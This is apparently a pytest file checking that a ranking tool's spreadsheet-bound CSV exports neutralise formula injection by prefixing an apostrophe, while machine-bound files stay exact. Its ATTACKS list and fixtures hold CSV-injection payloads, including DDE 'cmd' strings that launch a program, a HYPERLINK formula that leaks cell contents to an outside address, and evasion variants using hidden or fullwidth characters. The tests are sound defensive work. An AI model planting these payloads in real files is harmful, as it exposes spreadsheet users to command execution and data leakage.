"""Files for spreadsheets: no cell is a formula, numbers are numbers; files for machines are exact."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import numpy as np
import pandas as pd
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from rulerank.collection import Collection
from rulerank.export import export_files, make_bundle, preview
from rulerank.export.plain import BOM, defused, defused_all, spreadsheet_csv

SIGNS = "=+-@＝＋－＠"
NUMBER = re.compile(r"\s*[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?\s*")
ATTACKS = [
    "=1+1",
    '=HYPERLINK("http://example.org/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(1)",
    ",=1+1",
    ";=1+1",
    "a;=1+1",
    'a;"=1+1"',
    '"=1+1"',
    '""=1+1',
    "a\n=1+1",
    "a\t=1+1",
    "a|=1+1",
    "1;-1+2",
    "-1,=2",
    "\tplain",
]


def begins_a_formula(cell: str) -> bool:
    """What a spreadsheet would run: a sign first, whatever it skips before it, unless it is a number."""
    seen = cell.lstrip(' \t\r\n\x00\u00a0\ufeff\u200b"')
    return bool(seen) and seen[0] in SIGNS and not NUMBER.fullmatch(seen)


def cells_of(text: str) -> list[str]:
    """The cells as programs in several countries would cut a line."""
    found = []
    for separator in ",;\t|":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            found += row
        for line in text.splitlines():  # and as one that does not know quotes
            found += line.split(separator)
    return found


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_are_defused(attack):
    assert "'" in defused(attack)
    assert not any(begins_a_formula(cell) for cell in cells_of(csv_of([attack, "x"])))


def csv_of(cells):
    return spreadsheet_csv(pd.DataFrame([cells], columns=["a", "b"])).decode("utf-8-sig")


@given(st.text(alphabet=st.sampled_from("=+-@＝＠ \t\r\n,;|\"'a1.e\ufeff"), max_size=12))
@example("-1;=1")
def test_nothing_is_a_formula_however_it_is_written(text):
    assert not any(begins_a_formula(cell) for cell in cells_of(csv_of(["x", text])))
    assert defused(text).replace("'", "") == text.replace("'", "")  # apostrophes are all that is added


@pytest.mark.parametrize(
    "text",
    [
        "",
        "plain",
        "-1",
        "-0.5",
        "+3",
        "-1e-05",
        "-.5",
        "1-2",
        "a=b",
        "a - b",
        "2026-11-17",
        "x@example.org",
        "'=1",
        "a, b",
        "d-17",
    ],
)
def test_numbers_and_harmless_texts_stay_as_they_are(text):
    assert defused(text) == text


def test_a_list_without_a_risk_is_handed_back_itself():
    texts = ["a", "b-c", "-1", "é"]
    assert defused_all(texts) is texts
    assert defused_all(["a", "=b"]) == ["a", "'=b"]


HOSTILE = Collection.from_arrays(
    np.array([[-1.5, 2.0], [0.25, -3.0], [1e-7, 4.0]]),
    ["=q1", "=q1", "q2"],
    [0, 1, 2],
    docids=["=HYPERLINK(1)", "+d,2", "ß-3"],
).with_feature_names(["@bm25", "tf"])
EVENTS = [
    {"person": "=cmd|' /C calc'!A0", "grade": -1, "text": "fine", "seconds": -0.5},
    {"person": "Ada", "grade": 2, "text": "a;=1+1\nsecond line", "seconds": 1.25},
]
FILES = dict(export_files(HOSTILE, EVENTS, formats=["csv", "events", "features", "qrels", "letor"]))


def rows_of(name):
    return list(csv.reader(io.StringIO(FILES[name].decode("utf-8-sig"), newline="")))


def test_the_files_for_machines_are_exact():
    assert rows_of("documents-for-machines.csv") == [
        ["qid", "docid", "grade", "@bm25", "tf"],
        ["=q1", "=HYPERLINK(1)", "0", "-1.5", "2"],
        ["=q1", "+d,2", "1", "0.25", "-3"],
        ["q2", "ß-3", "2", "1e-07", "4"],
    ]
    frame = pd.read_csv(io.BytesIO(FILES["documents-for-machines.csv"]), dtype={"qid": str, "docid": str})
    assert frame["docid"].tolist() == ["=HYPERLINK(1)", "+d,2", "ß-3"]
    assert np.array_equal(frame[["@bm25", "tf"]].to_numpy(), HOSTILE.features)
    assert rows_of("events-for-machines.csv")[1:] == [
        ["=cmd|' /C calc'!A0", "-1", "fine", "-0.5"],
        ["Ada", "2", "a;=1+1\nsecond line", "1.25"],
    ]
    assert not FILES["documents-for-machines.csv"].startswith(BOM.encode())


def test_the_files_for_spreadsheets_hold_no_formula_and_the_same_numbers():
    assert rows_of("documents-for-spreadsheets.csv") == [
        ["qid", "docid", "grade", "'@bm25", "tf"],
        ["'=q1", "'=HYPERLINK(1)", "0", "-1.5", "2"],
        ["'=q1", "'+d,2", "1", "0.25", "-3"],
        ["q2", "ß-3", "2", "1e-07", "4"],
    ]
    assert rows_of("events-for-spreadsheets.csv")[1:] == [
        ["'=cmd|' /C calc'!A0", "-1", "fine", "-0.5"],
        ["Ada", "2", "a;'=1+1\nsecond line", "1.25"],
    ]
    for name in ("documents-for-spreadsheets.csv", "events-for-spreadsheets.csv"):
        assert FILES[name].startswith(BOM.encode())
        assert not any(begins_a_formula(cell) for row in rows_of(name) for cell in row)


def test_where_nothing_is_risky_both_hold_the_same_text():
    plain = Collection.from_arrays([[1.0], [-2.0]], ["1", "1"], [0, 1])
    made = dict(export_files(plain, [{"a": "b"}], formats=["csv", "events"]))
    for what in ("documents", "events"):
        assert made[f"{what}-for-spreadsheets.csv"] == BOM.encode() + made[f"{what}-for-machines.csv"]


def test_the_readme_says_which_is_which():
    data = make_bundle(HOSTILE, EVENTS, formats=["csv", "events"])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        told = " ".join(archive.read("README.txt").decode().split())
    assert "-for-spreadsheets.csv" in told
    assert "apostrophe" in told
    assert "exact" in told
    assert 'read_csv("documents-for-machines.csv"' in told


def test_the_preview_lists_both():
    names = [each.name for each in preview(HOSTILE, EVENTS, formats=["csv", "events"]).files]
    assert names == [
        "documents-for-machines.csv",
        "documents-for-spreadsheets.csv",
        "events-for-machines.csv",
        "events-for-spreadsheets.csv",
        "events.jsonl",
    ]
